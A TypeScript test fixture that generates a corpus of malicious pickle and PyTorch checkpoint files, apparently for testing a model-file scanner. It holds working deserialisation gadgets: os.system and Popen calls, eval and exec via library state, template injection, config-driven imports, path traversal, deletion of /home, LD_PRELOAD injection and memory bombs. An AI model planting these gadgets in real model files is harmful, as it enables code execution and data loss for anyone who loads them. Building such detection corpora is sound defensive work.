import {
  call,
  global,
  type Piece,
  pickle,
  STOP,
  stackGlobal,
} from '../../../../src/formats/pickle/assemble.fixture.ts';
import { zip } from '../../../../src/formats/zip/archive.fixture.ts';
import { FRESH_GADGETS } from './gadgets.ts';
import { bytes, type Fresh, json, le, under } from './kit.ts';

const text = (value: string): Piece => ['BINUNICODE', value];
const tuple = (...pieces: readonly Piece[]): Uint8Array => pickle(['MARK'], ...pieces, ['TUPLE']);
const dict = (...pieces: readonly Piece[]): Uint8Array => pickle(['EMPTY_DICT'], ['MARK'], ...pieces, ['SETITEMS']);
const list = (...pieces: readonly Piece[]): Uint8Array => pickle(['EMPTY_LIST'], ['MARK'], ...pieces, ['APPENDS']);
const reduce = (callee: Piece, ...pieces: readonly Piece[]): Uint8Array => pickle(callee, tuple(...pieces), ['REDUCE']);
const made = (module: string, name: string, state: Piece): Uint8Array =>
  pickle(global(module, name), ['EMPTY_TUPLE'], ['NEWOBJ'], state, ['BUILD']);
const p4 = (...pieces: readonly Piece[]): Uint8Array => pickle(['PROTO', 4], ...pieces, STOP);
const p2 = (...pieces: readonly Piece[]): Uint8Array => pickle(['PROTO', 2], ...pieces, STOP);
const plain = (...pieces: readonly Piece[]): Uint8Array => pickle(...pieces, STOP);
export const SYSTEM = call(global('posix', 'system'), 'true');
export const EVIL = p4(SYSTEM);

/** A PyTorch zip whose data.pkl is this. */
export const torch = (data: Uint8Array): Uint8Array =>
  zip([
    { name: 'archive/data.pkl', bytes: data },
    { name: 'archive/byteorder', bytes: 'little' },
    { name: 'archive/version', bytes: '3\n' },
  ]);

function* gadgets(): Iterable<Fresh> {
  const ways = [
    (callee: Piece, args: readonly Piece[]) => p4(callee, tuple(...args), ['REDUCE']),
    (callee: Piece, args: readonly Piece[]) => p4(callee, tuple(...args), ['NEWOBJ']),
    (callee: Piece, args: readonly Piece[]) => p4(['MARK'], callee, ...args, ['OBJ']),
    (callee: Piece, args: readonly Piece[]) => torch(p2(dict(text('w'), pickle(callee, tuple(...args), ['REDUCE'])))),
  ];
  for (const [turn, line] of FRESH_GADGETS.trim().split('\n').entries()) {
    const [path = '', args = ''] = line.split(' |');
    const [module = '', name = ''] = path.split(' ');
    const texts = args.trim() === '' ? [] : args.trim().split(' ').map(text);
    const content = ways[turn % ways.length]?.(stackGlobal(module, name), texts) ?? EVIL;
    yield { family: 'pickle gadgets', path: 'model.pkl', why: `${module}.${name}`, bytes: content };
  }
}

const keras = zip([
  { name: 'metadata.json', bytes: '{"keras_version": "3.9.0"}' },
  {
    name: 'config.json',
    bytes: json({
      module: 'keras',
      class_name: 'Sequential',
      config: {
        layers: [
          {
            module: 'keras.layers',
            class_name: 'Lambda',
            config: { function: { class_name: '__lambda__', config: { code: '4wAAAA==' } } },
          },
        ],
      },
    }),
  },
]);
const bytesIo = (content: Uint8Array): Uint8Array => reduce(global('_io', 'BytesIO'), ['BINBYTES', content]);
const CODE = "__import__('os').system('true')";

/** Objects whose class is harmless and whose state is what runs, or is opened, when they are loaded or used. */
const STATES: Readonly<Record<string, Uint8Array>> = {
  'scipy.stats: exec of _parse_arg_template in __setstate__': p4(
    made(
      'scipy.stats._continuous_distns',
      'norm_gen',
      dict(text('_parse_arg_template'), text(CODE), text('name'), text('norm')),
    ),
  ),
  'a pickled Keras model with a Lambda inside': p4(
    reduce(stackGlobal('keras.src.saving.keras_saveable', 'KerasSaveable._unpickle_model'), bytesIo(keras)),
  ),
  'statsmodels: a formula is Python': p4(
    made(
      'statsmodels.base.data',
      'PandasData',
      dict(text('restore_design_info'), ['NEWTRUE'], text('formula'), text(`y ~ ${CODE}`), text('frame'), ['NONE']),
    ),
  ),
  'joblib: an array in another file, from outside': p4(
    made(
      'joblib.numpy_pickle_compat',
      'NDArrayWrapper',
      dict(text('filename'), text('../../evil.npy'), text('subclass'), global('numpy', 'ndarray')),
    ),
  ),
  'joblib: a compressed array in another file': p4(
    made(
      'joblib.numpy_pickle_compat',
      'ZNDArrayWrapper',
      dict(text('filename'), text('/etc/hostname'), text('state'), ['NONE']),
    ),
  ),
  'NLTK loads a pickle when it is used': p4(
    made('nltk.data', 'LazyLoader', dict(text('_path'), text('nltk:/tmp/evil.pickle'))),
  ),
  'a resolver of OmegaConf that evaluates': p4(
    made('omegaconf.nodes', 'AnyNode', dict(text('_val'), text(`\${eval:${CODE}}`))),
  ),
  'tempfile deletes a file when it is collected': p4(
    made('tempfile', '_TemporaryFileCloser', dict(text('name'), text('/etc/hostname'), text('delete'), ['NEWTRUE'])),
  ),
  'subprocess.Popen that never ran, with a pid': p4(made('subprocess', 'Popen', dict(text('pid'), ['BININT1', 1]))),
  'a temporary folder that is removed': p4(made('tempfile', 'TemporaryDirectory', dict(text('name'), text('/home')))),
  'os.environ set by SETITEM': p4(global('os', 'environ'), text('LD_PRELOAD'), text('x.so'), ['SETITEM']),
  'sys.path by APPEND': p4(global('sys', 'path'), text('//127.0.0.1/x'), ['APPEND']),
  'sys.modules by SETITEMS': p4(global('sys', 'modules'), ['MARK'], text('torch'), ['EMPTY_DICT'], ['SETITEMS']),
  'warnings.filters by APPENDS': p4(global('warnings', 'filters'), ['MARK'], text('x'), ['APPENDS']),
  'copyreg.dispatch_table by SETITEM': p4(
    global('copyreg', 'dispatch_table'),
    global('builtins', 'int'),
    global('builtins', 'print'),
    ['SETITEM'],
  ),
  "a class's method replaced by BUILD": p4(
    global('torch.nn.modules.linear', 'Linear'),
    tuple(['NONE'], dict(text('forward'), global('builtins', 'print'))),
    ['BUILD'],
  ),
  'a numpy scalar of objects out of bytes': p4(
    reduce(global('numpy.core.multiarray', 'scalar'), reduce(global('numpy', 'dtype'), text('O8')), ['BINBYTES', EVIL]),
  ),
  'torch.storage: a checkpoint in bytes': p4(reduce(global('torch.storage', '_load_from_bytes'), ['BINBYTES', EVIL])),
  'a class called with nothing by numpy.random': p4(
    reduce(global('numpy.random._pickle', '__bit_generator_ctor'), global('http.server', 'HTTPServer')),
  ),
  'a function called by numpy.random': p4(
    reduce(global('numpy.random._pickle', '__generator_ctor'), text('true'), global('posix', 'system')),
  ),
  'a function called by torch': p4(
    reduce(
      global('torch._tensor', '_rebuild_from_type_v2'),
      global('posix', 'system'),
      global('builtins', 'int'),
      tuple(text('true')),
      ['NONE'],
    ),
  ),
  'a function called by JAX': p4(
    reduce(
      global('jax._src.array', '_reconstruct_array'),
      global('posix', 'system'),
      tuple(text('true')),
      ['NONE'],
      ['NONE'],
    ),
  ),
  'a class made by pandas': p4(
    reduce(
      global('pandas.core.indexes.base', '_new_Index'),
      global('subprocess', 'Popen'),
      dict(text('args'), text('true')),
    ),
  ),
  'a class made by copyreg': p4(
    reduce(global('copyreg', '_reconstructor'), global('subprocess', 'Popen'), global('builtins', 'object'), ['NONE']),
  ),
};

/** Plain data in checkpoints that a trainer imports, calls or runs. */
const CHECKPOINTS: Readonly<Record<string, Uint8Array>> = {
  'Lightning: _instantiator is imported and called': torch(
    p2(
      dict(
        text('pytorch-lightning_version'),
        text('2.4.0'),
        text('hyper_parameters'),
        dict(text('_instantiator'), text('os.system'), text('cmd'), text('true')),
      ),
    ),
  ),
  'fairseq: user_dir is imported': torch(
    p2(dict(text('args'), made('argparse', 'Namespace', dict(text('user_dir'), text('/tmp/evil'))))),
  ),
  'mmengine: meta.cfg is Python': torch(
    p2(dict(text('meta'), dict(text('cfg'), text(`import os\nos.system('true')\nmodel = dict(type='X')\n`)))),
  ),
  'mmengine: custom_imports in the configuration': torch(
    p2(dict(text('meta'), dict(text('config'), text("custom_imports = dict(imports=['evil'])\n")))),
  ),
  'Hydra: a target in the hyper-parameters': torch(
    p2(
      dict(
        text('hyper_parameters'),
        dict(text('model'), dict(text('_target_'), text('os.system'), text('command'), text('true'))),
      ),
    ),
  ),
  'latent diffusion: a target in the configuration': torch(
    p2(
      dict(
        text('config'),
        dict(text('target'), text('subprocess.Popen'), text('params'), dict(text('args'), text('true'))),
      ),
    ),
  ),
  'a configuration of transformers with code of its own': torch(
    p2(dict(text('config'), dict(text('auto_map'), dict(text('AutoModel'), text('evil/x--m.X'))))),
  ),
  'a template of another world': torch(
    p2(dict(text('chat_template'), text("{{ cycler.__init__.__globals__.os.popen('true') }}"))),
  ),
};

const CHAINS: Readonly<Record<string, Uint8Array>> = {
  'a name by operator.concat': p4(
    reduce(global('_operator', 'concat'), text('po'), text('six')),
    text('system'),
    ['STACK_GLOBAL'],
    tuple(text('true')),
    ['REDUCE'],
  ),
  'a name by str.replace': p4(
    reduce(stackGlobal('builtins', 'str.replace'), text('pXosix'), text('X'), text('')),
    text('system'),
    ['STACK_GLOBAL'],
    tuple(text('true')),
    ['REDUCE'],
  ),
  'a name by bytes.decode': p4(
    reduce(stackGlobal('builtins', 'bytes.decode'), ['BINBYTES', 'posix']),
    text('system'),
    ['STACK_GLOBAL'],
    tuple(text('true')),
    ['REDUCE'],
  ),
  'a name by list.pop': p4(
    reduce(stackGlobal('builtins', 'list.pop'), list(text('posix'))),
    text('system'),
    ['STACK_GLOBAL'],
    tuple(text('true')),
    ['REDUCE'],
  ),
  'a name out of a dict': p4(
    reduce(stackGlobal('builtins', 'dict.get'), dict(text('a'), text('posix')), text('a')),
    text('system'),
    ['STACK_GLOBAL'],
    tuple(text('true')),
    ['REDUCE'],
  ),
  'sorted calls its key': p4(reduce(global('functools', 'partial'), global('builtins', 'sorted'), list(text('true')))),
  'max calls its key': p4(['PROTO', 4], global('builtins', 'max'), tuple(list(text('true'))), ['REDUCE']),
  'iter with a sentinel': p4(
    reduce(global('builtins', 'list'), reduce(global('builtins', 'iter'), global('builtins', 'input'), text(''))),
  ),
  'itertools.accumulate': p4(
    reduce(
      global('builtins', 'list'),
      reduce(global('itertools', 'accumulate'), list(text('a'), text('b')), global('posix', 'open')),
    ),
  ),
  'itertools.groupby': p4(
    reduce(
      global('builtins', 'list'),
      reduce(global('itertools', 'groupby'), list(text('true')), global('posix', 'system')),
    ),
  ),
  'heapq.nsmallest with a key': p4(
    reduce(global('heapq', 'nsmallest'), ['BININT1', 1], list(text('true')), global('posix', 'system')),
  ),
  're.sub with a function': p4(reduce(global('re', 'sub'), text('.'), global('posix', 'system'), text('x'))),
  cmp_to_key: p4(reduce(global('functools', 'cmp_to_key'), global('posix', 'system'))),
  'a property of a class made on the spot': p4(
    reduce(global('builtins', 'type'), text('X'), tuple(), dict(text('__reduce__'), global('builtins', 'breakpoint'))),
  ),
  '__import__ of protocol 0': plain(['MARK'], ['UNICODE', 'os'], ['INST', '__builtin__', '__import__']),
  'builtins under the name of Python 2': plain(['MARK'], ['UNICODE', CODE], ['INST', '__builtin__', 'eval']),
  'reduce of Python 2': plain(global('__builtin__', 'reduce'), tuple(global('operator', 'add'), list(text('a'))), [
    'REDUCE',
  ]),
  'object.__reduce_ex__': p4(
    reduce(stackGlobal('builtins', 'object.__reduce_ex__'), global('os', 'path'), ['BININT1', 2]),
  ),
  'getattr by object.__getattribute__': p4(
    reduce(stackGlobal('builtins', 'object.__getattribute__'), global('posixpath', 'os'), text('system')),
  ),
  'a module of a module': p4(call(stackGlobal('posixpath', 'os.system'), 'true')),
  'a module of numpy': p4(call(stackGlobal('numpy', 'os.system'), 'true')),
  'a module of torch, by GLOBAL': p2(call(global('torch.os', 'system'), 'true')),
  'the caller as a result': p4(
    reduce(reduce(global('operator', 'attrgetter'), text('system')), global('posixpath', 'os')),
    tuple(text('true')),
    ['REDUCE'],
  ),
  'INST in the middle of a state': plain(
    ['MARK'],
    ['UNICODE', 'a'],
    ['MARK'],
    ['UNICODE', 'true'],
    ['INST', 'posix', 'system'],
    ['DICT'],
  ),
  'a persistent id with a call in it': p2(tuple(text('storage'), SYSTEM, text('0'), text('cpu'), ['BININT1', 1]), [
    'BINPERSID',
  ]),
  'a persistent id of protocol 0': plain(['PERSID', '0'], ['POP'], SYSTEM),
  'behind a second PROTO': bytes(pickle(['PROTO', 2], ['PROTO', 4]), pickle(SYSTEM, STOP)),
  'a frame that ends within an opcode': bytes([0x80, 4, 0x95], le(3, 8), pickle(SYSTEM, STOP)),
  'after a plain pickle and zeros': bytes(p4(['NONE']), new Uint8Array(9000), EVIL),
  'after a plain pickle and text': bytes(p4(['NONE']), 'some notes\n', EVIL),
  'after a plain pickle and a plain pickle': bytes(p4(['EMPTY_DICT']), p2(['EMPTY_LIST']), plain(['NONE']), EVIL),
  'within bytes, for pickle.loads': p4(reduce(global('pickle', 'loads'), ['BINBYTES', EVIL])),
  'within bytes, for an unpickler of joblib': p4(
    reduce(global('joblib.numpy_pickle', 'NumpyUnpickler'), text('x'), bytesIo(EVIL), ['NONE']),
  ),
  'an extension code without a registry': p4(['EXT4', 70000], tuple(text('true')), ['REDUCE']),
  'an empty module': p4(call(stackGlobal('', 'system'), 'true')),
  'a module with a NUL': p4(call(stackGlobal('posix\0', 'system'), 'true')),
  'a relative module': p4(call(stackGlobal('.evil', 'run'), 'true')),
  'a module beside the model': p4(call(global('evil_helper', 'run'), 'true')),
  __main__: p4(call(global('__main__', 'run'), 'true')),
  'a name with a dot at its end': p4(call(stackGlobal('posix', 'system.__call__'), 'true')),
};

/** Work without end, or memory without end, for whoever loads them. */
const BOMBS: Readonly<Record<string, Uint8Array>> = {
  'a memo of two milliard cells': p2(['NONE'], bytes([0x72, 0xff, 0xff, 0xff, 0x7f])),
  'numpy: an array of a terabyte': p4(
    reduce(
      global('numpy.core.multiarray', '_reconstruct'),
      global('numpy', 'ndarray'),
      tuple(['LONG1', bytes(le(2 ** 40, 8))]),
      ['BINBYTES', 'b'],
    ),
  ),
  'a fraction of a milliard digits': p4(reduce(global('fractions', 'Fraction'), text('1e999999999'))),
  'a power': p4(reduce(global('_operator', 'pow'), ['BININT', 9], ['BININT', 999999999])),
  'a text times a milliard': p4(reduce(global('_operator', 'mul'), text('x'), ['BININT', 2000000000])),
  'a list of a range': p4(
    reduce(global('builtins', 'list'), reduce(global('builtins', 'range'), ['BININT', 2000000000])),
  ),
  'a pattern that never ends': p4(
    reduce(global('re', '_compile'), text('(a+)+$'), ['BININT1', 0]),
    ['POP'],
    reduce(global('builtins', 'set'), reduce(global('builtins', 'range'), ['BININT', 2000000000])),
  ),
};

export const PICKLES: readonly Fresh[] = [
  ...gadgets(),
  ...under('pickle states', 'model.pkl', STATES),
  ...under('pickled settings', 'model.ckpt', CHECKPOINTS),
  ...under('pickle chains and streams', 'pytorch_model.bin', CHAINS),
  ...under('pickle bombs', 'model.joblib', BOMBS),
];
